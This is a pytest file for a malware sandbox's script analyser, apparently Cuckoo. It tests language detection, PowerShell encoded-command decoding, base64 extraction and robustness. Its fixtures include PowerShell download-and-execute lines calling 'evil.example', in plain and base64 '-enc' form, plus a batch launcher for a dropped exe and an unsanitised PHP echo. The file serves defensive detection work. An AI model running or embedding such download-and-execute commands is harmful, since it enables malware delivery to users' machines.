import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.cuckoo.common.filetype import describe_bytes
from lib.cuckoo.files import encoded
from lib.cuckoo.files.budget import Budget
from lib.cuckoo.files.kinds import kind_of
from lib.cuckoo.files.language import language
from lib.cuckoo.files.script import describe_script
from tests.files.reading import read, survives

SCRIPTS = {
    "powershell": "$client = New-Object Net.WebClient\nIEX $client.DownloadString('http://evil.example/a')\n",
    "vbscript": 'Dim shell\nSet shell = CreateObject("WScript.Shell")\nshell.Run "calc"\nOn Error Resume Next\n',
    "javascript": "var shell = new ActiveXObject('WScript.Shell');\nfunction run() { return eval('1'); }\n",
    "batch": "@echo off\nset a=%TEMP%\nif exist %a%\\x.exe goto run\n:run\nstart %a%\\x.exe\n",
    "python": "import os\n\ndef run(self):\n    print(os.name)\n",
    "php": "<?php echo $_GET['a']; ?>",
    "shell": "if [ -f /tmp/a ]; then\n  chmod +x /tmp/a\nfi\n",
}


@pytest.mark.parametrize(("name", "text"), SCRIPTS.items())
def test_the_language_is_told_by_its_words(name: str, text: str) -> None:
    assert language(text) == name


@pytest.mark.parametrize("text", SCRIPTS.values())
def test_scripts_are_told_from_other_text(text: str) -> None:
    for encoding in ("utf-8", "utf-16"):
        raw = text.encode(encoding)
        assert kind_of(raw, describe_bytes(raw)) == "script"


def test_prose_is_no_script() -> None:
    raw = b"Let the new function return a set of words. If it starts, call me; for the rest, echo.\n" * 20

    assert kind_of(raw, describe_bytes(raw)) == "text"


@pytest.mark.parametrize(
    ("first", "name"), [("#!/bin/bash", "shell"), ("#!/usr/bin/env python3", "python"), ("#!/opt/x", None)]
)
def test_the_first_line_names_the_interpreter(first: str, name: str | None) -> None:
    assert language(f"{first}\nvar x = 1;\n") == name


def test_an_encoded_command_is_decoded() -> None:
    command = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/b')"
    encoded = base64.b64encode(command.encode("utf-16-le")).decode()
    for option in ("-EncodedCommand", "-enc", "-e", "/ec", "-eNc"):
        found = read(describe_script, f"powershell -nop -w hidden {option} {encoded}".encode())

        assert found["commands"] == [command]
        assert found["urls"] == ["http://evil.example/b"]
        assert "DownloadString" in [each["keyword"] for each in found["keywords"]]


def test_what_only_looks_like_an_encoded_command_is_none() -> None:
    assert read(describe_script, b"grep -e abcdefghijklmnopqrstuvwx file")["commands"] == []


def test_long_base64_is_decoded_once_and_typed() -> None:
    inner = base64.b64encode(bytes(range(256)))
    outer = base64.b64encode(b"MZ" + inner).decode()

    found = read(describe_script, f"var a = '{outer}'; var b = '{outer}'; var c = '{'ab' * 64}';".encode())

    assert [(each["name"], each["size"], each["kind"]) for each in found["contents"]] == [
        ("base64 at character 9", len(inner) + 2, "dos")
    ]


def test_contents_without_end_are_cut_and_that_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(encoded, "MAXIMUM_CONTENTS", 2)
    budget = Budget()
    text = b"\n".join(base64.b64encode(bytes(range(each, each + 64))) for each in range(3))

    assert len(read(describe_script, text, budget)["contents"]) == 2
    assert budget.notes == ["base64: only the first 2 contents are described"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252"])
def test_every_encoding_of_a_script_is_read(encoding: str) -> None:
    found = read(describe_script, 'MsgBox "é" \' http://evil.example/\r\n'.encode(encoding))

    assert (found["urls"], found["lines"]) == (["http://evil.example/"], 1)


def test_a_script_without_end_is_cut_and_that_is_said() -> None:
    budget = Budget()

    found = read(describe_script, b"a" * ((4 << 20) + 5), budget)

    assert found["longest_line"] == 4 << 20
    assert budget.notes[0] == "script: 5 bytes at the end are not read"


def test_scrambled_scripts_and_those_that_run_text_are_told() -> None:
    found = read(describe_script, b"#@~^AAAAAA==eval(unescape('%41'))")

    assert (found["encoded"], found["indirect"]) == (True, ["eval", "unescape"])


@pytest.mark.parametrize("trap", ["-e ", "$a", "http://", "A" * 63 + " ", "%a", "Sub a_", "[", "\t"])
def test_a_trap_repeated_without_end_is_survived(trap: str) -> None:
    survives(describe_script, (trap * 50_000).encode())


@given(
    st.binary(max_size=300)
    | st.text(max_size=300).map(lambda text: text.encode("utf-16-le", "surrogatepass"))
)
def test_any_bytes_are_described(data: bytes) -> None:
    survives(describe_script, data)
